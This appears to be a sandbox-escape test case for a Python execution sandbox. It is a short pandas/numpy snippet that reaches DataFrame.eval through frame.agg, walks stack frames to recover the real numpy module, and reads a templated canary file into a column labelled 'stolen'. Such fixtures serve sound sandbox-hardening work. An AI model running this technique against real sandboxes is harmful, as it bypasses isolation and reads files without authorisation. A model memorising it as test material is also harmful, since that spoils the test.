# class: module_reach
# technique: a level walk returns the snippet's own `np` as a value out of DataFrame.eval; value attributes skip the module table, so npv.fromfile reads the canary (DataFrame.eval reached as frame.agg bound to a name and called as run('eval', ...))
# goal: read
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
run = frame.agg


def ev(expr, **names):
    return run("eval", 0, expr, local_dict=names)


def outer(expr, **names):
    for depth in range(1, 48):
        try:
            return run("eval", 0, expr, level=depth, local_dict=names)
        except Exception:
            continue
    raise RuntimeError("no frame resolves the expression")

npv = outer("@np")
raw = npv.fromfile("{{CANARY_FILE}}", dtype=npv.uint8)
df = pd.DataFrame({"stolen": [raw.tobytes().decode("latin-1")]})
